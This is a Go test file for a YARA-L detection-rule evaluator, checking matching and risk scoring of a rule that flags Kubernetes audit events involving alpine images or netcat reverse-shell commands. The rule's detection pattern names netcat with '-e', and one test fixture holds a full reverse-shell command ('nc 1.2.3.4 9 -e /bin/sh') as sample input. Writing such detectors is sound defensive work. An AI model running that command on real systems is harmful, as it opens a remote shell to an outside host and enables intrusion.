package yaral

import (
	"strings"
	"testing"

	"github.com/detgen/detgen/lang/yaral"
)

const rule = `rule r {
  meta:
    author = "x"
  events:
    $e.metadata.log_type = "KUBERNETES_AUDIT"
    $e.network.http.method = /^(?:create|patch)$/ nocase
    not $e.principal.user.user_display_name = /^system:/
    (
      $e.target.resource.attribute.labels["image"] = /alpine/ nocase
      or re.regex($e.target.resource.attribute.labels["command"], ` + "`nc .* -e`" + `)
    )
  outcome:
    $risk_score = max(5 + if($e.target.resource.attribute.labels["image"] = /alpine/ nocase, 10, 0) + if(re.regex($e.target.resource.attribute.labels["command"], ` + "`nc .* -e`" + `), 25))
    $ips = array_distinct($e.principal.ip)
  condition:
    $e and $risk_score >= 15
}`

func TestEvaluate(t *testing.T) {
	r, err := yaral.Parse(rule)
	if err != nil {
		t.Fatal(err)
	}
	ev := func(method, user, image, command string) Event {
		return Event{
			"metadata.log_type":                           {"KUBERNETES_AUDIT"},
			"network.http.method":                         {method},
			"principal.user.user_display_name":            {user},
			"principal.ip":                                {"10.0.0.1", "10.0.0.2", "10.0.0.1"},
			`target.resource.attribute.labels["image"]`:   {image},
			`target.resource.attribute.labels["command"]`: {command},
		}
	}
	tests := []struct {
		name  string
		ev    Event
		match bool
		score int64
	}{
		{"image only", ev("CREATE", "alice", "ALPINE:3", ""), true, 15},
		{"both", ev("patch", "alice", "alpine", "nc 1.2.3.4 9 -e /bin/sh"), true, 40},
		{"excluded", ev("create", "system:node:x", "alpine", ""), false, 15},
		{"wrong verb", ev("get", "alice", "alpine", ""), false, 15},
		{"no signal", ev("create", "alice", "nginx", ""), false, 5},
		{"missing label", Event{"metadata.log_type": {"KUBERNETES_AUDIT"}, "network.http.method": {"create"}}, false, 5},
	}
	for _, tc := range tests {
		res, err := Evaluate(r, tc.ev)
		if err != nil {
			t.Fatalf("%s: %v", tc.name, err)
		}
		if res.Match != tc.match || res.Outcomes["risk_score"] != tc.score {
			t.Errorf("%s: match %v score %v, want %v %d", tc.name, res.Match, res.Outcomes["risk_score"], tc.match, tc.score)
		}
		if ips := res.Outcomes["ips"]; tc.name == "both" && strings.Join(ips.([]string), ",") != "10.0.0.1,10.0.0.2" {
			t.Errorf("array_distinct = %v", ips)
		}
	}
}

func TestUnsupportedIsAnError(t *testing.T) {
	r, err := yaral.Parse("rule r {\n  meta:\n  events:\n    $e.x = \"a\"\n    $e.y in %list\n  condition:\n    $e\n}\n")
	if err != nil {
		t.Fatal(err)
	}
	if _, err := Evaluate(r, Event{"x": {"a"}}); err == nil || !strings.Contains(err.Error(), "not supported") {
		t.Errorf("err = %v, want an unsupported-construct error", err)
	}
}
